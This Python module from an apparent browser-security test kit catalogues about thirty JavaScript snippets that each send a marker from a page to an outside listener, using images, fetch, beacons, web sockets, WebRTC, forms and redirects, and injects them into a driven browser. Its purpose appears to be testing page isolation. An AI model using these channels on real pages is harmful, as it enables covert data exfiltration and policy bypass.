"""Every way we know by which a page could tell somebody outside something.

Each is a few lines of JavaScript, as a cell could put them into the page it is shown in.
Whether one works is not for the page to say: whoever listens outside counts what arrives.
"""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass

from dobotkit.errors import LabError
from dobotkit.lab.driven import DrivenBrowser

__all__ = ["WAYS", "Way", "try_ways"]

# Until then (s) whatever was going to leave a page has left it; on a busy computer it may not.
_SETTLE = 3.0
_PATIENCE, _LOOK = 30.0, 0.05


@dataclass(frozen=True, slots=True)
class Way:
    """One way out of a page.

    Attributes
    ----------
    id:
        A short name, for example ``"img"``.
    title:
        What it is, for people.
    script:
        The body of an asynchronous function in JavaScript. It reads ``TARGET``:
        ``http``, ``ws`` and ``udp`` are addresses where somebody listens, and ``mark``
        goes into whatever leaves. ``put(html)`` and ``make(name, values)`` add to the page.
    by_leaving:
        Whether the page itself goes to the other address: what headers cannot forbid.
    silent:
        Whether only a connection is made, and nothing is sent. Where there is a name to look
        up, the name can say something; and a connection is one bit.
    alone:
        Whether it needs a page for itself, which may be gone afterwards.
    """

    id: str
    title: str
    script: str
    by_leaving: bool = False
    silent: bool = False
    alone: bool = False


_HELPERS = """
const there = `${TARGET.http}/${TARGET.mark}`;
const put = html => {
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
    return box.firstElementChild;
};
const make = (name, values, place = document.body) => {
    const one = Object.assign(document.createElement(name), values);
    place.append(one);
    return one;
};
"""

_WEBRTC = """
const link = new RTCPeerConnection({{iceServers: [{server}]}});
link.createDataChannel('out');
await link.setLocalDescription(await link.createOffer());
"""

WAYS: tuple[Way, ...] = (
    Way("img", "a picture from elsewhere", "put(`<img src='${there}'>`);"),
    Way("js-image", "a picture that a script asks for", "new Image().src = there;"),
    Way(
        "css",
        "a style sheet that imports, and a background picture",
        "put(`<style>@import '${there}';</style>`);"
        "put(`<div style=\"background: url('${there}'); height: 9px\">.</div>`);",
    ),
    Way(
        "font",
        "a font from elsewhere",
        "await new FontFace('out', `url(${there})`).load();",
    ),
    Way("video", "a film from elsewhere", "put(`<video src='${there}' autoplay></video>`);"),
    Way("object", "an embedded document", "put(`<object data='${there}'></object>`);"),
    Way("iframe", "a frame from elsewhere", "put(`<iframe src='${there}'></iframe>`);"),
    Way(
        "iframe-leaves",
        "a frame of the page that goes elsewhere",
        "put('<iframe></iframe>').srcdoc = `<script>location.href = '${there}'</script>`;",
    ),
    Way(
        "iframe-leads",
        "a frame that leads the whole page away",
        "put('<iframe></iframe>').srcdoc = `<script>top.location.href = '${there}'</script>`;",
        alone=True,
    ),
    Way("fetch", "fetch", "await fetch(there, {mode: 'no-cors'});"),
    Way(
        "xhr",
        "XMLHttpRequest",
        "const asked = new XMLHttpRequest(); asked.open('POST', there); asked.send('out');",
    ),
    Way("beacon", "a beacon", "navigator.sendBeacon(there, 'out');"),
    Way("websocket", "a web socket", "new WebSocket(`${TARGET.ws}/${TARGET.mark}`);"),
    Way("eventsource", "a stream of events", "new EventSource(there);"),
    Way(
        "webtransport",
        "WebTransport over UDP",
        "await new WebTransport(`https://${TARGET.udp}/${TARGET.mark}`).ready;",
    ),
    Way("script", "a script from elsewhere", "make('script', {src: there});"),
    Way("import", "a module from elsewhere", "await import(there);"),
    Way(
        "worker",
        "a worker that fetches",
        "const text = `fetch('${there}', {mode: 'no-cors'})`;"
        "new Worker(URL.createObjectURL(new Blob([text])));",
    ),
    Way("prefetch", "a page fetched beforehand", "make('link', {rel: 'prefetch', href: there});"),
    Way(
        "preload",
        "a picture fetched beforehand",
        "make('link', {rel: 'preload', as: 'image', href: there});",
    ),
    Way(
        "preconnect",
        "a connection made beforehand",
        "make('link', {rel: 'preconnect', href: TARGET.http}, document.head);",
        silent=True,
    ),
    Way(
        "ping",
        "a link that tells when it is followed",
        "make('a', {href: '#here', ping: there}).click();",
    ),
    Way(
        "form",
        "a form sent elsewhere",
        "put(`<form action='${there}' method='post'></form>`).submit();",
        alone=True,
    ),
    Way("window", "a new window", "window.open(there);"),
    Way(
        "blank",
        "a link into a new tab",
        "make('a', {href: there, target: '_blank', rel: 'noopener'}).click();",
    ),
    Way(
        "download",
        "a file from elsewhere, to be saved",
        "make('a', {href: there, download: 'out'}).click();",
        by_leaving=True,
        alone=True,
    ),
    Way("location", "a script that goes elsewhere", "location.href = there;", by_leaving=True),
    Way(
        "link",
        "a link that is clicked",
        "make('a', {href: there}).click();",
        by_leaving=True,
        alone=True,
    ),
    Way(
        "refresh",
        "a page that says where to go next",
        "put(`<meta http-equiv='refresh' content='0; url=${there}'>`);",
        by_leaving=True,
        alone=True,
    ),
    Way(
        "webrtc-udp",
        "WebRTC over UDP",
        _WEBRTC.format(server="{urls: `stun:${TARGET.udp}`}"),
    ),
    Way(
        "webrtc-tcp",
        "WebRTC over TCP",
        _WEBRTC.format(
            server="{urls: `turn:${new URL(TARGET.http).host}?transport=tcp`, "
            "username: TARGET.mark, credential: 'out'}"
        ),
    ),
)


def try_ways(
    browser: DrivenBrowser,
    address: str,
    target_of: Callable[[Way], Mapping[str, str]],
    ways: Iterable[Way] = WAYS,
    *,
    until: Callable[[], bool] = lambda: True,
) -> None:
    """Have pages try these ways out; the receivers count.

    Parameters
    ----------
    browser:
        The browser that is to be tried.
    address:
        A page of the server that is to be tried, with whatever opens it.
    target_of:
        Where each way is to lead: what its script reads as ``TARGET``. A receiver for each
        way is best: of a mere connection nobody else can tell from which way it came.
    ways:
        The ways to try.
    until:
        What is still waited for, at most half a minute, after the few seconds that something
        needs to arrive on a computer that is not busy.
    """
    tried = list(ways)
    together = [way for way in tried if not way.alone]
    pages = []
    for group in ([together] if together else []) + [[way] for way in tried if way.alone]:
        page = browser.open(address)
        pages.append(page)
        for way in group:
            target = json.dumps(dict(target_of(way)))
            # One that leads away may be gone before it can answer: the receivers count.
            with contextlib.suppress(LabError):
                page.evaluate(
                    f"void (async () => {{const TARGET = {target}; {_HELPERS} {way.script}}})()"
                    ".catch(() => {})"
                )
    # What does not arrive says nothing: only time tells.
    time.sleep(_SETTLE)
    deadline = time.monotonic() + _PATIENCE
    while not until() and time.monotonic() < deadline:
        time.sleep(_LOOK)
    for page in pages:
        page.close()
